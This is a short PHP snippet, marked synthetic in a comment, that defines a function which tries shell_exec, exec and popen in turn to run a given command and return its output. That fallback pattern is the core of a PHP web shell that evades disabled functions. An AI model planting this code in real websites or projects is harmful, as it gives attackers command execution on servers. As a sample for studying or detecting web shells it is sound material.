<?php
// synthetic: probes several command functions until one works
function go($c) {
    $out = '';
    if (is_callable('shell_exec')) {
        $out = shell_exec($c);
    } elseif (function_exists('exec')) {
        exec($c, $lines);
        $out = implode("\n", $lines);
    } elseif (function_exists('popen')) {
        $h = popen($c, 'r');
        $out = stream_get_contents($h);
        pclose($h);
    }
    return $out;
}
